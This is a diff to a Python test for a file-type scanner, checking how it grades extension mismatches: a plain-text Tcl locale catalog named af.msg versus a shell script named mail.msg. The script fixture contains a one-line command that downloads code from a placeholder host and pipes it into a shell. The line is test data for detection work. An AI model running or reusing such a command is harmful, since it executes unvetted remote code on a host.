@@ -107,3 +107,18 @@ def test_other_mismatches_stay_suspicious(scanner: Scanner, name: str, data: byt
     assert [f.severity for f in result.findings if f.id == "type.extension_mismatch"] == [
         Severity.MEDIUM]
     assert ids(result) and result.verdict is Verdict.SUSPICIOUS
+
+
+def test_plain_text_under_a_binary_name_is_informational(scanner: Scanner) -> None:
+    catalog = (b"# created by tools/loadICU.tcl -- do not edit\n"
+               b"Names eval ::tcl::clock {\n"
+               b"    ::msgcat::mcset af DAYS_OF_WEEK_ABBREV [list \\\n"
+               b"        \"So\"\\\n        \"Ma\"]\n}\n")
+    result = scanner.scan_bytes(catalog, "af.msg")
+    found = [f for f in result.findings if f.id == "type.extension_mismatch"]
+    assert [f.severity for f in found] == [Severity.INFO]
+    assert result.verdict is Verdict.CLEAN
+    # a script named as an Outlook message stays a medium mismatch
+    script = b"#!/bin/sh\ncurl -s http://x.test/a | sh\n"
+    assert [f.severity for f in scanner.scan_bytes(script, "mail.msg").findings
+            if f.id == "type.extension_mismatch"] == [Severity.MEDIUM]
